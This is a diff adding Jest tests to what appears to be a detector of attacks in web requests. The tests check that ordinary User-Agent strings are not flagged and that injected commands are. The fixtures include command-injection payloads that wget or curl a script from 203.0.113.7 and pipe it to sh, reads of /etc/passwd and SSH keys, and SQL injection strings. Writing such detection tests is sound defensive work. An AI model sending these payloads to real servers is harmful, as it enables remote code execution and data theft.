@@ -424,3 +424,86 @@ test.each([
   expect(inJson(text)).toMatchObject({ verdict: 'malicious' });
   expect(inJson(text).findings[0]?.rule?.split('/')[0]).toBe(attack);
 });
+
+test.each([
+  'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
+  'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like Gecko',
+  'Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)',
+  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
+  'curl/8.4.0 (+https://www.example.com/bot)',
+])('the User-Agent %s is no note', (agent) => {
+  const { findings } = analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r');
+  expect(findings).toEqual([]);
+});
+
+test('what a program says of itself between semicolons is no command, and commands there are', () => {
+  const rules = (agent: string) =>
+    analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r').findings.map(
+      ({ rule }) => rule,
+    );
+  for (const word of ['Touch', 'Screen', 'Java/1.8', 'Node', 'less']) {
+    expect(rules(`Mozilla/5.0 (Windows NT 6.3; Trident/7.0; ${word}; rv:11.0) like Gecko`), word).toEqual([]);
+  }
+  for (const act of ['whoami', 'touch /tmp/x', 'cat /etc/passwd', 'wget http://203.0.113.7/a'])
+    expect(rules(`Mozilla/5.0 (Windows NT 6.3; ${act}; rv:11.0)`), act).not.toEqual([]);
+  expect(rules('x; touch; y')).toContain('rce/command');
+});
+
+test('whoever asks with curl is told from a command that does', () => {
+  expect(certainClass('curl/8.4.0 http://203.0.113.7/a')).toBeUndefined();
+  for (const act of [
+    'curl http://203.0.113.7/a',
+    'wget${IFS}http://203.0.113.7/a',
+    '/usr/bin/curl -s http://203.0.113.7/a',
+  ])
+    expect(certainClass(act), act).toBe('rce');
+});
+
+test.each([
+  'C:\\Users\\anna\\Documents\\report.docx',
+  'Build finished; less than 5 warnings',
+  'Cups; plates &amp; more',
+])('%s is nothing that attacks', (text) => {
+  expect(judgeValue(text).filter(({ certain }) => certain)).toEqual([]);
+});
+
+test.each([
+  ['C:\\Users\\Administrator\\Desktop\\x.txt', 'lfi'],
+  ['c:/users/anna/.ssh/id_rsa', 'lfi'],
+  ['done; less /etc/passwd', 'rce'],
+  ['a&amp;whoami', 'rce'],
+  ['`id -a`', 'rce'],
+])('%s still is %s', (text, attack) => {
+  expect(
+    judgeValue(text)
+      .filter(({ certain }) => certain)
+      .map((hit) => hit.class),
+  ).toContain(attack);
+});
+
+test('a parenthesis that closes what the value did not open is still one that breaks out', () => {
+  const rules = (text: string) => judgeValue(text).map(({ rule }) => rule);
+  expect(rules('5) or sleepy')).toContain('sqli/condition-start');
+  expect(rules("(a') or sleepy")).toContain('sqli/condition-start');
+});
+
+test.each([
+  [
+    'a form',
+    { body: 'host=127.0.0.1;wget http://203.0.113.7/b.sh -O /tmp/b', media: 'application/x-www-form-urlencoded' },
+  ],
+  [
+    'an encoded form',
+    { body: 'a=%3Bwget+http%3A%2F%2F203.0.113.7%2Fb.sh%3Bsh+b.sh', media: 'application/x-www-form-urlencoded' },
+  ],
+  ['plain text', { body: ';wget http://203.0.113.7/b.sh', media: 'text/plain' }],
+  ['JSON', { body: '{"host":"$(curl http://203.0.113.7/b.sh|sh)"}', media: 'application/json' }],
+])('a command that was put into %s names as indicators whom it speaks to', (_form, { body, media }) => {
+  const request = { method: 'POST', target: '/ping', headers: { 'Content-Type': media }, body };
+  expect(analyzeRequests([request], 'r').iocs).toContainEqual({ type: 'url', value: 'http://203.0.113.7/b.sh' });
+});
+
+test('what a request only names, or attacks nobody with, is no indicator', () => {
+  const body = 'text=see http://203.0.113.7/b.sh&id=1%27 or 1=1--';
+  expect(analyzeRequests([{ method: 'POST', target: '/x', body }], 'r').iocs).toEqual([]);
+});
